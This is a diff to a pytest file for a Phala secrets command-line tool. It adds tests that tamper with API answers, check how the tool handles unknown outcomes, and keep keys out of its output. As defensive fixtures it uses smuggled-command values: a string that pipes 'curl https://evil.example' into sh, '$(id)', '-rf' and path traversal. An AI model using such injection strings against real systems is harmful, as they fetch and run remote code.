@@ -13,8 +13,8 @@ import pytest
 from command import Command
 
 from phala_secrets import create_async_client, create_client
-from phala_secrets.errors import AnswerError, ApiError, InputError, TransportError
-from phala_secrets.simulator import Cvm, Fault, Simulator
+from phala_secrets.errors import AnswerError, ApiError, TransportError
+from phala_secrets.simulator import Answer, Cloud, Cvm, Fault, Request, Simulator
 
 KEY = "phak_canary_0123456789"
 
@@ -152,7 +152,81 @@ def test_a_proxy_that_cannot_be_used_is_an_input_that_is_wrong(run: Command, pro
     assert done.code == 2, done.printed
     assert "PROXY" in done.errors[0]
     assert "canary" not in done.printed
-    with pytest.raises(InputError), pytest.MonkeyPatch.context() as patch:
-        for name, value in proxy.items():
-            patch.setenv(name, value)
-        create_client(KEY, "https://api.invalid")
+
+
+# -- ids that are none, and outcomes that are not known ---------------------------------------------
+
+SCRIPT = '"; curl https://evil.example | sh; "'
+
+
+@pytest.mark.parametrize(
+    ("path", "field", "sent", "code"),
+    [
+        ("/my-app", "id", 0, 6),
+        ("/kms", "slug", 0, 6),
+        ("/operations", "correlation_id", 0, 6),
+        ("/envs", "correlation_id", 1, 0),  # the operations tell the one that it has
+    ],
+)
+@pytest.mark.parametrize("text", [SCRIPT, "../../elsewhere", "$(id)", "a\nb", ".", "-rf"])
+def test_an_id_that_could_act_in_a_script_is_no_answer(
+    run: Command, cloud: Cloud, cvm: Cvm, path: str, field: str, sent: int, code: int, text: str
+) -> None:
+    """Ids become outputs, which workflows put into scripts: an API that lies must not write those."""
+
+    def lie(answer: object) -> object:
+        if isinstance(answer, list):
+            return [lie(each) for each in answer]
+        if isinstance(answer, dict):
+            return {name: text if name == field else lie(value) for name, value in answer.items()}
+        return answer
+
+    def tamper(request: Request, answer: Answer) -> Answer:
+        named = request.path.endswith(path)
+        return Answer(lie(answer.body), answer.status) if named and answer.status < 300 else answer
+
+    if path == "/operations":
+        assert run("update", "--cvm", "my-app", "--secrets", "OLD", environ={"OLD": "2"}).code == 0
+        cloud.reset_requests()
+    cloud.tamper = tamper
+    done = run("update", "--cvm", "my-app", "--secrets", "OLD", "--json", environ={"OLD": "3"})
+    assert done.code == code, done.printed
+    assert text not in [*done.json.values()]
+    assert sum(request.method == "PATCH" for request in cloud.requests) == sent
+
+
+@pytest.mark.parametrize("status", [401, 403, 404, 422])
+def test_a_lost_answer_that_cannot_be_looked_up_is_not_known(
+    run: Command, simulator: Simulator, cvm: Cvm, status: int
+) -> None:
+    simulator.faults.add(Fault("reset_after", "PATCH"))
+    simulator.faults.add(Fault("status", path="/operations", skip=1, times=None, status=status))
+    done = run("update", "--cvm", "my-app", "--secrets", "OLD", environ={"OLD": "2"})
+    assert done.code == 6
+    assert "not known whether" in done.errors[0]
+    assert cvm.wait().environment == {"OLD": "2"}
+
+
+def test_what_became_of_a_fleet_is_told_though_the_last_look_fails(
+    run: Command, cloud: Cloud, cvm: Cvm, simulator: Simulator
+) -> None:
+    cloud.add_cvm("second", app_id=cvm.app_id, environment={"OLD": "1"}).boot_fails("no such image")
+    simulator.faults.add(Fault("status", path="^/apps/", skip=1, times=None, status=403))
+    arguments = ("update", "--app", cvm.app_id, "--secrets", "OLD", "--fail-fast")
+    done = run(*arguments, environ={"OLD": "2"})
+    assert done.code == 8, done.printed
+    assert "no such image" in done.errors[0]
+    assert "could not be looked for" in done.printed
+
+
+# -- a key where a path belongs ---------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("name", ["API_KEY_FILE", "PRIVATE_KEY_FILE"])
+def test_a_key_in_place_of_the_path_of_its_file_is_not_told(run: Command, cvm: Cvm, name: str) -> None:
+    key = "0x" + "c0ffee42" * 8
+    environ = {"OLD": "2", f"PHALA_SECRETS_{name}": key}
+    done = run("update", "--cvm", "my-app", "--secrets", "OLD", environ=environ)
+    assert done.code == 2
+    assert "-key-file: cannot be read" in done.errors[0]
+    assert "c0ffee" not in done.printed
